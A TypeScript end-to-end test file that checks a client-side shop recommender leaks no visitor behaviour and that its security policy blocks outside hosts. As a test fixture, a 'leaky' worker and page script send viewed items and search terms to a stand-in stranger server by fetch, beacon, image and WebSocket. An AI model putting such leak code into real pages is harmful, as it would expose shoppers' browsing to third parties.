import type { Browser, Page } from 'playwright'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { buildPack, encoderFromDisk } from '../../pack'
import { EVENT_NAMES } from '../../src/shared/events'
import { ITEMS } from '../support/built-items'
import { call, DIST, launch, type SottoWindow, shopPage } from '../support/built-page'
import { Recorder } from '../support/built-recorder'
import { serve } from '../support/built-server'
import { keptCatalog } from '../support/kept-catalog'

type Server = Awaited<ReturnType<typeof serve>>
type Behaviour = { readonly items: readonly string[]; readonly term: string; readonly order: string }

const ANNA: Behaviour = { items: ['chairs-0', 'chairs-3', 'chairs-5'], term: 'leather chair for the back', order: 'A-1001' }
const BELA: Behaviour = { items: ['phones-1', 'lamps-4', 'printers-2'], term: 'cheap duplex printer', order: 'B-2002' }

const policy = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'; report-uri /refused; img-src 'self' data:"

let browser: Browser
let server: Server
/** Somebody whom a leak could go to. */
let stranger: Server

beforeAll(async () => {
  browser = await launch()
  stranger = await serve({ headers: { 'access-control-allow-origin': '*' } })
  const encoder = await encoderFromDisk()
  const whole = buildPack(ITEMS, { encoder })
  // A head of a few items and the rest in files that are fetched later, as in a large shop.
  const cut = buildPack(ITEMS, { encoder, headBytes: 3_000, tailBytes: 1_500, name: 'cut' })
  expect(cut.parts.length).toBeGreaterThan(4)
  const shop = (catalog: string, more = '') =>
    shopPage({ attributes: `data-consent="granted" data-catalog="/${catalog}" ${more}`, body: '<sotto-shelf>Fallback</sotto-shelf>' })
  server = await serve({
    roots: { '/sotto/': DIST },
    pages: {
      '/whole.pack': whole.core,
      '/cut.pack': cut.core,
      ...Object.fromEntries(cut.parts.map(({ name, bytes }) => [`/${name}`, bytes])),
      '/shop/': shop('whole.pack'),
      '/large-shop/': shop('cut.pack'),
      '/leaky-shop/': shop('whole.pack', 'data-worker-src="/leaky-worker.js"'),
      // The engine, and beside it somebody who tells on the visitor, at home and abroad.
      '/leaky-worker.js': `await import('/sotto/worker.js')
        fetch('/told-by-worker?item=chairs-3').catch(() => {})
        fetch('${stranger.origin}/worker?item=chairs-3').catch(() => {})`,
    },
    headers: { 'content-security-policy': policy },
  })
})
afterAll(async () => {
  await browser.close()
  await Promise.all([server.close(), stranger.close()])
})

/** A visitor from first look to a second visit. @returns what was heard, by the recorder and by the server. */
async function visit(path: string, behaviour: Behaviour, alsoDo?: (page: Page) => Promise<void>) {
  const context = await browser.newContext()
  const recorder = new Recorder(context)
  const from = server.requests.length
  const page = await context.newPage()
  await page.goto(`${server.origin}/${path}/`)
  const act = async () => {
    await page.waitForSelector('sotto-shelf >> li')
    for (const item_id of behaviour.items) await call(page, 'track', 'view_item', { items: [{ item_id }] })
    await call(page, 'track', 'search', { search_term: behaviour.term })
    await call(page, 'recommend', { strategy: 'search', query: behaviour.term })
    await call(page, 'recommend', { strategy: 'similar', itemId: behaviour.items[0] })
    await call(page, 'recommend', { strategy: 'for-you' })
    await call(page, 'rank', behaviour.items)
    await call(page, 'explain', behaviour.items[1])
    await call(page, 'track', 'add_to_cart', { items: behaviour.items.map((item_id) => ({ item_id, quantity: 1, price: 9 })) })
    await call(page, 'track', 'purchase', { transaction_id: behaviour.order, value: 27, items: [{ item_id: behaviour.items[1]! }] })
  }
  await act()
  await alsoDo?.(page)
  await atRest(page)
  // The next page has all of it from the disk, and of nobody only a part.
  await expect.poll(async () => (await keptCatalog(page)).items).toBe(ITEMS.length)
  await page.reload()
  await page.waitForSelector('sotto-shelf >> li')
  await call(page, 'recommend', { strategy: 'for-you' })
  await call(page, 'exportData')
  await atRest(page)
  await recorder.settled()
  await context.close()
  return { recorder, arrived: server.requests.slice(from) }
}

/** What waits until nobody asks for anything has been done: the rest of the catalog is there, and what a query costs is measured. */
async function atRest(page: Page): Promise<void> {
  await expect.poll(async () => (await call(page, 'status')).catalog).toMatchObject({ loaded: ITEMS.length, total: ITEMS.length })
  // Whoever asks next has the index of the whole made.
  await call(page, 'recommend', { strategy: 'for-you' })
  await expect.poll(async () => (await call(page, 'status')).compute.calibration?.items).toBe(ITEMS.length)
}

/** The catalog is being kept, for which a file is fetched. @param from of the visit's requests. */
async function saved(from: number): Promise<void> {
  await expect.poll(() => server.requests.slice(from).some(({ url }) => url.includes('/save-catalog'))).toBe(true)
}

/** Looks around a listing, with or without having looked at something before. */
async function browse(path: string, seen: readonly string[]) {
  const context = await browser.newContext()
  const recorder = new Recorder(context)
  const from = server.requests.length
  const page = await context.newPage()
  await page.goto(`${server.origin}/${path}/`)
  for (const item_id of seen) await call(page, 'track', 'view_item', { items: [{ item_id, item_category: 'Furniture' }] })
  await call(page, 'rank', ['lamps-0', 'chairs-1'])
  await call(page, 'recommend', { strategy: 'for-you' })
  await atRest(page)
  await saved(from)
  await recorder.settled()
  await context.close()
  return recorder.lines()
}

const words = ({ items, term, order }: Behaviour) => [...items, term, order, ...EVENT_NAMES.filter((name) => name.includes('_'))]

describe.each(['shop', 'large-shop'])('a visitor of the %s', (path) => {
  test('asks for what somebody asks for of whom nothing is known, in the same order', async () => {
    const packs = (lines: readonly string[]) => lines.filter((line) => line.includes('.pack'))
    const [stranger, regular] = [await browse(path, []), await browse(path, ['printers-5', 'printers-4'])]
    expect(packs(regular)).toEqual(packs(stranger))
    expect(regular.toSorted()).toEqual(stranger.toSorted())
  })

  test('says nothing of what they did, and what another says who did other things', async () => {
    const anna = await visit(path, ANNA)
    const bela = await visit(path, BELA)
    for (const { recorder, arrived } of [anna, bela]) {
      expect(recorder.leaked([...words(ANNA), ...words(BELA)])).toEqual([])
      // Only ever asks, and never with an address that could carry a message.
      expect(recorder.said.filter(({ method, body, url }) => method !== 'GET' || body || /[?#]/.test(url))).toEqual([])
      expect(recorder.said.filter(({ url }) => !url.startsWith(server.origin) && !url.startsWith('data:'))).toEqual([])
      expect(recorder.said.filter(({ headers }) => 'cookie' in headers)).toEqual([])
      // What arrived is what was heard: nothing went out behind the recorder's back.
      expect(arrived.map(({ url }) => server.origin + url).sort()).toEqual(
        recorder.said
          .map(({ url }) => url)
          .filter((url) => url.startsWith(server.origin))
          .sort(),
      )
      expect(arrived.some(({ url }) => url === '/refused')).toBe(false)
    }
    const addresses = ({ recorder }: typeof anna) => [...new Set(recorder.lines())].sort()
    expect(addresses(bela)).toEqual(addresses(anna))
    // The order would say as much as the choice: what is fetched first would be what was looked at.
    const parts = ({ recorder }: typeof anna) => recorder.lines().filter((line) => /-[0-9a-f]+\.pack$/.test(line))
    expect(parts(bela)).toEqual(parts(anna))
  })
})

describe('the ear', () => {
  test('hears whoever tells on purpose: by fetch, in the worker, by beacon, by picture, by WebSocket', async () => {
    const { recorder, arrived } = await visit('leaky-shop', ANNA, async (page) => {
      await page.evaluate(async () => {
        const { sotto } = window as unknown as SottoWindow
        const [{ name }] = (await sotto.history({ type: 'search' })) as [{ name: string }]
        await fetch('/told-by-fetch', { method: 'POST', body: JSON.stringify({ name, term: 'leather chair for the back' }) })
        navigator.sendBeacon('/told-by-beacon', 'A-1001')
        new Image().src = '/told-by-picture?item=chairs-5'
        new WebSocket(`${location.origin.replace('http', 'ws')}/told-by-socket?item=chairs-0`)
      })
      for (const told of ['/told-by-picture?item=chairs-5', '/told-by-beacon', '/told-by-worker?item=chairs-3'])
        await expect.poll(() => server.requests.map(({ url }) => url)).toContain(told)
    })
    expect(recorder.leaked([...ANNA.items, ANNA.term, ANNA.order])).toEqual([...ANNA.items, ANNA.term, ANNA.order])
    const lines = recorder.lines().map((line) => line.replace(server.origin, '').replace(/ ws:\/\/[^/]*/, ' '))
    expect(lines).toEqual(
      expect.arrayContaining([
        'POST /told-by-fetch',
        'POST /told-by-beacon',
        'GET /told-by-picture?item=chairs-5',
        'GET /told-by-worker?item=chairs-3',
        'WEBSOCKET /told-by-socket?item=chairs-0',
      ]),
    )
    expect(arrived.map(({ url }) => url)).toEqual(expect.arrayContaining(['/told-by-worker?item=chairs-3', '/told-by-beacon']))
  })

  test('is deaf to nothing that the policy stops either: page and worker are refused a stranger, and the refusal is told', async () => {
    const from = server.requests.length
    const context = await browser.newContext()
    const page = await context.newPage()
    await page.goto(`${server.origin}/leaky-shop/`)
    await call(page, 'history')
    const outcome = await page.evaluate(
      (url) =>
        fetch(url).then(
          () => 'sent',
          () => 'refused',
        ),
      `${stranger.origin}/page?item=chairs-3`,
    )
    expect(outcome).toBe('refused')
    const refusals = () =>
      server.requests
        .slice(from)
        .filter(({ url }) => url === '/refused')
        .map(({ body }) => JSON.parse(body)['csp-report']['blocked-uri'] as string)
    await expect
      .poll(() => refusals().sort())
      .toEqual([`${stranger.origin}/page`, `${stranger.origin}/worker`].map((url) => expect.stringContaining(url)))
    expect(stranger.requests).toEqual([])
    await context.close()
  })
})
